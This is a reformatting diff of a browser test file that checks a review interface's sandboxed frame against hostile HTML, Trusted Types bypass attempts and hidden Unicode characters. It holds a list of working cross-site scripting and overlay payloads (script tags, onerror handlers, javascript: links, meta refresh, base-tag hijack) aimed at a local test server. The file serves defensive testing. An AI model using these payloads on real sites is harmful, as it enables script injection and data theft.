@@ -26,19 +26,52 @@ const at = (path: string) => `http://127.0.0.1:${(evil.address() as AddressInfo)
 const payloads = (): readonly (readonly [why: string, html: string])[] => [
   ["a script", `<script>parent.pwned=1;top.pwned=1;fetch("${at("script")}")</script>`],
   ["a script from outside", `<script src="${at("src.js")}"></script>`],
-  ["an event handler", `<img src=x onerror="top.pwned=1"><svg onload="top.pwned=1"><body onload="top.pwned=1">`],
+  [
+    "an event handler",
+    `<img src=x onerror="top.pwned=1"><svg onload="top.pwned=1"><body onload="top.pwned=1">`,
+  ],
   ["a refresh", `<meta http-equiv="refresh" content="0;url=${at("refresh")}">`],
-  ["a form that sends itself", `<form action="${at("form")}" id="f"><input name="a"><button autofocus>Go</button></form>`],
+  [
+    "a form that sends itself",
+    `<form action="${at("form")}" id="f"><input name="a"><button autofocus>Go</button></form>`,
+  ],
   ["a base", `<base href="${at("base/")}" target="_top"><a href="x">x</a><img src="y.png">`],
-  ["a style sheet that imports", `<style>@import url("${at("import.css")}"); body{background:url("${at("bg")}")}</style>`],
-  ["a link to a style sheet", `<link rel="stylesheet" href="${at("link.css")}"><link rel="prefetch" href="${at("prefetch")}">`],
-  ["an inline style", `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('${at("inline")}')">over</p>`],
-  ["an SVG", `<svg><script>top.pwned=1</script><use href="${at("use.svg")}#x"/><foreignObject><iframe src="${at("fo")}"></iframe></foreignObject></svg>`],
-  ["a frame in the frame", `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="javascript:top.pwned=1"></iframe><object data="${at("object")}"></object><embed src="${at("embed")}">`],
-  ["a picture from outside", `<img src="${at("pixel.png")}" srcset="${at("srcset.png")} 2x"><video poster="${at("poster")}" src="${at("video")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>`],
-  ["a link that leads away", `<a href="${at("away")}" target="_top" ping="${at("ping")}">click</a><a href="javascript:top.pwned=1">js</a>`],
-  ["a document that ends ours", `</body></html></iframe></figure></article><script>top.pwned=1</script>${IMITATION}`],
-  ["attribute breaking", `"><script>top.pwned=1</script><p title='"><img src=x onerror=top.pwned=1>'>x</p>`],
+  [
+    "a style sheet that imports",
+    `<style>@import url("${at("import.css")}"); body{background:url("${at("bg")}")}</style>`,
+  ],
+  [
+    "a link to a style sheet",
+    `<link rel="stylesheet" href="${at("link.css")}"><link rel="prefetch" href="${at("prefetch")}">`,
+  ],
+  [
+    "an inline style",
+    `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('${at("inline")}')">over</p>`,
+  ],
+  [
+    "an SVG",
+    `<svg><script>top.pwned=1</script><use href="${at("use.svg")}#x"/><foreignObject><iframe src="${at("fo")}"></iframe></foreignObject></svg>`,
+  ],
+  [
+    "a frame in the frame",
+    `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="javascript:top.pwned=1"></iframe><object data="${at("object")}"></object><embed src="${at("embed")}">`,
+  ],
+  [
+    "a picture from outside",
+    `<img src="${at("pixel.png")}" srcset="${at("srcset.png")} 2x"><video poster="${at("poster")}" src="${at("video")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>`,
+  ],
+  [
+    "a link that leads away",
+    `<a href="${at("away")}" target="_top" ping="${at("ping")}">click</a><a href="javascript:top.pwned=1">js</a>`,
+  ],
+  [
+    "a document that ends ours",
+    `</body></html></iframe></figure></article><script>top.pwned=1</script>${IMITATION}`,
+  ],
+  [
+    "attribute breaking",
+    `"><script>top.pwned=1</script><p title='"><img src=x onerror=top.pwned=1>'>x</p>`,
+  ],
   ["a fake console", FAKE],
 ];
 
@@ -97,7 +130,10 @@ test("INV-188: hostile HTML neither runs, loads, sends, leads away nor covers an
       await frame.boundingBox(),
       await page.getByRole("region", { name: "Decide" }).boundingBox(),
     ];
-    assert.ok(box !== null && bar !== null && box.height <= 330, `${why}: the frame stays its size`);
+    assert.ok(
+      box !== null && bar !== null && box.height <= 330,
+      `${why}: the frame stays its size`,
+    );
     // Its source can be read, as text.
     await card.getByRole("tab", { name: "Source" }).first().click();
     const start = html.slice(0, 30).split("\n")[0] ?? "";
@@ -109,24 +145,27 @@ test("INV-188: hostile HTML neither runs, loads, sends, leads away nor covers an
 
 test("INV-188: no script but the one that makes frames may make a document", async () => {
   const card = await open(0);
-  const refusal = await card.locator("iframe").first().evaluate((frame) => {
-    const { trustedTypes } = globalThis as unknown as {
-      trustedTypes: { createPolicy(name: string, rules: object): unknown };
-    };
-    const attempts = [
-      () => trustedTypes.createPolicy("another", {}),
-      () => trustedTypes.createPolicy("cofferdam-frame", {}), // There is one, and no second of its name.
-      () => Object.assign(frame, { srcdoc: "<script>top.pwned=1</script>" }),
-    ];
-    return attempts.map((attempt) => {
-      try {
-        attempt();
-        return "done";
-      } catch (error) {
-        return (error as Error).name;
-      }
+  const refusal = await card
+    .locator("iframe")
+    .first()
+    .evaluate((frame) => {
+      const { trustedTypes } = globalThis as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      const attempts = [
+        () => trustedTypes.createPolicy("another", {}),
+        () => trustedTypes.createPolicy("cofferdam-frame", {}), // There is one, and no second of its name.
+        () => Object.assign(frame, { srcdoc: "<script>top.pwned=1</script>" }),
+      ];
+      return attempts.map((attempt) => {
+        try {
+          attempt();
+          return "done";
+        } catch (error) {
+          return (error as Error).name;
+        }
+      });
     });
-  });
   assert.deepEqual(refusal, ["TypeError", "TypeError", "TypeError"]);
   await isUntouched(page.url());
   desk.takeProblems();
@@ -157,7 +196,8 @@ test("INV-188: letters that hide, reorder or imitate are marked, in the card and
   const place = payloads().length;
   const card = await open(place);
   const shown = await card.innerText();
-  for (const name of ["U+202E", "U+200B", "U+2066", "U+E0041"]) assert.ok(shown.includes(name), name);
+  for (const name of ["U+202E", "U+200B", "U+2066", "U+E0041"])
+    assert.ok(shown.includes(name), name);
   assert.doesNotMatch(shown, /[\u202e\u200b\u2066\u{e0041}]/u);
   await card.locator('mark[title="letters of several alphabets"]').first().waitFor();
   const list = await page.getByRole("navigation", { name: "What waits" }).innerText();
@@ -190,7 +230,11 @@ test("INV-189: a long line is shown to its end when asked, and not approved befo
   const card = await open(place);
   await card.getByText(/characters more/).waitFor();
   await isHeld(ids[place] ?? "", /show all of it first/);
-  for (let n = 0; n < 8 && (await card.getByRole("button", { name: "Show more" }).count()) > 0; n += 1) {
+  for (
+    let n = 0;
+    n < 8 && (await card.getByRole("button", { name: "Show more" }).count()) > 0;
+    n += 1
+  ) {
     await card.getByRole("button", { name: "Show more" }).first().click();
   }
   assert.equal(await card.getByText(/characters more/).count(), 0);
